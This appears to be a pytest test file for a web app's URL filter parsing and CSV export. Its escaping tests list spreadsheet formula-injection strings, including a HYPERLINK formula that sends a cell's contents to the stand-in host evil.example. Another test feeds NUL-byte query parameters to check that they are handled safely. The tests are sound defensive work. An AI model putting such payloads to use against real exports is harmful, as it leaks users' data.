"""Filter state in the URL, and CSV export of whole filtered tables."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from urllib.parse import parse_qs

import pytest

from app import create_app
from db.migrate import upgrade
from services import prompt_filters
from services.container import get_services
from services.export import csv_chunks, escape_cell
from services.filters import FilterState, parse_query
from store import analytics as store_analytics
from store.analytics import PromptSet

from .conftest import AuthActions


def test_query_round_trip_and_defaults() -> None:
    state = FilterState(
        project="support-bot",
        prompt="support-answer",
        versions=("v1", "v2"),
        model="gpt-4o",
        status="ERROR",
        range="24h",
    )
    query = state.query_string()
    parsed, problems = parse_query({k: v[-1] for k, v in parse_qs(query[1:]).items()})
    assert problems == []
    assert parsed.query_string() == query
    assert FilterState().query_string() == ""


@pytest.mark.parametrize(
    ("query", "problem"),
    [
        ({"range": "forever"}, "Ignored range='forever'"),
        ({"status": "MAYBE"}, "Ignored status='MAYBE'"),
        ({"range": "custom", "start": "yesterday"}, "Ignored start='yesterday'"),
        (
            {"range": "custom", "start": "2026-11-25T10:00", "end": "2026-11-24T10:00"},
            "start is not before its end",
        ),
    ],
)
def test_bad_filters_are_dropped_with_a_message(query, problem: str) -> None:
    state, problems = parse_query(query)
    assert any(problem in p for p in problems)
    assert state.range in ("7d", "custom")


def test_custom_range_resolves_to_its_bounds() -> None:
    state, _ = parse_query(
        {"range": "custom", "start": "2026-11-20T00:00", "end": "2026-11-21T00:00+00:00"}
    )
    filters = state.to_filters(None)
    assert filters.start == datetime(2026, 11, 20, tzinfo=UTC)
    assert filters.end == datetime(2026, 11, 21, tzinfo=UTC)


@pytest.mark.parametrize("dangerous", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_escaped(dangerous: str) -> None:
    assert escape_cell(dangerous) == "'" + dangerous
    assert escape_cell(-5) == -5
    assert escape_cell("plain") == "plain"


def test_csv_chunks_stream_iso_times_in_utf8() -> None:
    rows = [(i, "ünïcode", datetime(2026, 11, 25, 9, 0, tzinfo=UTC)) for i in range(2500)]
    chunks = list(csv_chunks(["n", "text", "at"], rows))
    assert len(chunks) == 3
    parsed = list(csv.reader(io.StringIO("".join(chunks))))
    assert parsed[0] == ["n", "text", "at"]
    assert parsed[1] == ["0", "ünïcode", "2026-11-25T09:00:00+00:00"]
    assert len(parsed) == 2501


def test_missing_values_are_empty_cells_never_nan() -> None:
    parsed = list(csv.reader(io.StringIO("".join(csv_chunks(["a", "b"], [(None, float("nan"))])))))
    assert parsed[1] == ["", ""]


def test_a_prompt_filter_needs_its_prompt_set() -> None:
    # A name alone cannot filter the store: the caller resolves it (services.prompt_filters).
    state = FilterState(prompt="support-answer")
    assert state.to_filters(None).prompts is None
    assert state.to_filters(PromptSet(ids=("p1",))).prompts == PromptSet(ids=("p1",))


def test_header_cells_are_escaped_like_data_cells() -> None:
    # Evaluator names from Phoenix become header cells of experiment-examples.csv.
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
    header = [evil, "+SUM(A1)", "-x", "@cmd", "\tx", "\rx", "plain", "-1"]
    parsed = list(csv.reader(io.StringIO("".join(csv_chunks(header, [])), newline="")))
    assert parsed == [[escape_cell(name) for name in header]]
    assert parsed[0][0] == "'" + evil and parsed[0][6] == "plain"


def test_export_requests_are_checked(client, auth) -> None:
    auth.create()
    auth.login()
    assert client.get("/api/export/analytics/nope.csv").status_code == 404
    bad = client.get("/api/export/analytics/llm-calls.csv?range=forever")
    assert bad.status_code == 400 and "Ignored range='forever'" in bad.json["message"]
    missing = client.get("/api/export/analytics/comparison.csv")
    assert missing.status_code == 400 and "a=" in missing.json["message"]
    assert client.get("/api/export/BAD PAGE/llm-calls.csv").status_code == 400


@pytest.mark.integration
def test_control_characters_in_filters_reach_no_postgresql_query(settings, pg_url) -> None:
    upgrade(pg_url)
    app = create_app(settings.with_overrides(database_url=pg_url))
    client = app.server.test_client()
    auth = AuthActions(app, client)
    auth.create()
    auth.login()
    # PostgreSQL refuses a NUL in a string parameter; a hostile URL must not turn that into a 500.
    query = "?prompt=a%00b&model=%00&project=p%01&versions=v1%00,v2&range=7d"
    for path in ("/traces", "/analytics", "/api/export/analytics/llm-calls.csv"):
        response = client.get(path + query)
        assert response.status_code == 200, (path, response.status_code)
        response.get_data()  # read the streamed export whole, so its session closes now
    stranger = AuthActions(app, app.server.test_client())
    assert "Wrong email or password" in stranger.login(email="a\x00@example.com").text
    state, problems = parse_query({"prompt": "a\x00b", "model": "\x00"})
    assert (state.prompt, state.model, problems) == ("ab", None, [])
    get_services(app.server).engine.dispose()


@pytest.mark.integration
def test_export_holds_the_whole_filtered_result(settings, phoenix_server, demo_loaded) -> None:
    app = create_app(settings.with_overrides(phoenix_enabled=True, phoenix_url=phoenix_server.url))
    services = get_services(app.server)
    assert services.sync is not None
    services.sync.tick()
    client = app.server.test_client()
    auth = AuthActions(app, client)
    auth.create()
    auth.login()
    query = "?project=support-bot&versions=v1,v2&range=30d"
    response = client.get(f"/api/export/analytics/llm-calls.csv{query}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert 'filename="analytics_llm-calls_support-bot_v1+v2_30d_' in disposition
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    state, _ = parse_query({"project": "support-bot", "versions": "v1,v2", "range": "30d"})
    with services.sessions() as db:
        filters = prompt_filters.resolve(db, state)
    expected = {
        r[0] for _c, batch in store_analytics.iter_spans(services.store, filters) for r in batch
    }
    assert len(rows) == len(expected) > 0
    assert {r["span_id"] for r in rows} == expected
    assert {r["prompt_version"] for r in rows} <= {"v1", "v2"}
    assert all(r["start_time"].endswith("+00:00") for r in rows)
